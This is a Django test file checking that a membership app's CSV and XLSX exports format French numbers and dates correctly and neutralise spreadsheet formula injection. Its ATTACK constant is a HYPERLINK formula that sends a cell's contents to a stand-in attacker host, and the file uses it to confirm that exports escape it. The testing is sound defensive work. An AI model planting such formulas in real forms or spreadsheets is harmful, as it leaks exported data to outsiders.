"""Spreadsheet exports: French CSV, real numbers in XLSX, no formula injection (read back with
the csv module and openpyxl, independent readers)."""

import csv
import datetime as dt
import io
from decimal import Decimal

from django.test import SimpleTestCase
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from placette.contacts.models import Contact
from placette.lib import exports
from placette.membership.tests.helpers import make_statutes
from placette.membership.tests.test_subscription_public import bulletin, payment_settings
from placette.test import BaseTestCase

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'
ROWS = [
    ["=1+1", Decimal("1234.50"), -3, None, dt.date(2024, 12, 31), True],
    ["+33 6 12 34 56 78", Decimal("-0.05"), 12000, "", dt.date(2025, 1, 2), False],
    ["@SUM(A1)", Decimal("2.000"), 0, "\tTab", dt.date(2025, 1, 3), None],
    ["-2+3", Decimal("0"), 1, "\rCR", dt.date(2025, 1, 4), None],
]
HEADER = ["texte", "montant (€)", "nombre", "autre", "date", "oui/non"]


def _csv(header, rows) -> list[list[str]]:
    text = "".join(exports.csv_lines(header, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _xlsx(header, rows):
    out = io.BytesIO()
    exports.xlsx_write(out, "Feuille", header, rows)
    return load_workbook(io.BytesIO(out.getvalue())).active


class CsvTests(SimpleTestCase):
    def test_a_csv_has_semicolons_a_bom_and_numbers_with_a_decimal_comma(self):
        table = _csv(HEADER, ROWS)
        self.assertEqual(table[0], HEADER)
        self.assertEqual(table[1][1:], ["1234,50", "-3", "", "2024-12-31", "oui"])
        self.assertEqual(table[2][1:3], ["-0,05", "12000"])

    def test_text_that_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(self):
        table = _csv(HEADER, ROWS)
        self.assertEqual(
            [row[0] for row in table[1:]], ["'=1+1", "'+33 6 12 34 56 78", "'@SUM(A1)", "'-2+3"]
        )
        self.assertEqual([table[3][3], table[4][3]], ["'\tTab", "'\rCR"])

    @given(st.text(max_size=30))
    def test_no_text_cell_ever_starts_like_a_formula(self, text):
        cell = exports.csv_cell(text)
        self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")))
        self.assertEqual(cell.removeprefix("'") if cell != text else cell, text)


class XlsxTests(SimpleTestCase):
    def test_xlsx_amounts_are_numbers_with_a_money_format_and_dates_are_dates(self):
        sheet = _xlsx(HEADER, ROWS)
        amount = sheet.cell(row=2, column=2)
        self.assertEqual((amount.value, amount.data_type), (1234.5, "n"))
        self.assertEqual(amount.number_format, "#,##0.00")
        self.assertEqual(sheet.cell(row=3, column=2).value, -0.05)
        self.assertEqual(sheet.cell(row=3, column=3).value, 12000)
        day = sheet.cell(row=2, column=5)
        self.assertEqual((day.value, day.number_format), (dt.datetime(2024, 12, 31), "dd/mm/yyyy"))

    def test_xlsx_text_is_never_a_formula(self):
        sheet = _xlsx(HEADER, ROWS)
        cells = [sheet.cell(row=r, column=1) for r in range(2, 6)]
        self.assertEqual(
            [c.value for c in cells], ["'=1+1", "'+33 6 12 34 56 78", "'@SUM(A1)", "'-2+3"]
        )
        self.assertEqual({c.data_type for c in cells}, {"s"})


class FormulaInjectionTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        make_statutes()
        payment_settings()

    def test_a_formula_typed_as_a_first_name_on_the_public_form_is_inert_in_staff_exports(self):
        _, response = bulletin(self.client, first_name=ATTACK, email="attaque@exemple.fr")
        self.assertEqual(response.status_code, 302, getattr(response, "context", None))
        contact = Contact.objects.get(email="attaque@exemple.fr")
        self.assertEqual(contact.first_name, ATTACK)  # stored as typed: only exports escape it
        self.login(self.staff)
        query = {"q": "attaque@exemple.fr"}
        response = self.client.get(reverse("contacts:export", args=["csv"]), query)
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(text), delimiter=";"))
        self.assertEqual(len(table), 2)
        self.assertTrue(any(cell.startswith("'" + ATTACK) for cell in table[1]), table)
        self.assertFalse(any(cell.startswith("=") for row in table for cell in row))
        response = self.client.get(reverse("contacts:export", args=["xlsx"]), query)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        texts = [str(cell.value) for cell in cells]
        self.assertTrue(any(text.startswith("'" + ATTACK) for text in texts), texts)
        self.assertNotIn("f", {cell.data_type for cell in cells})
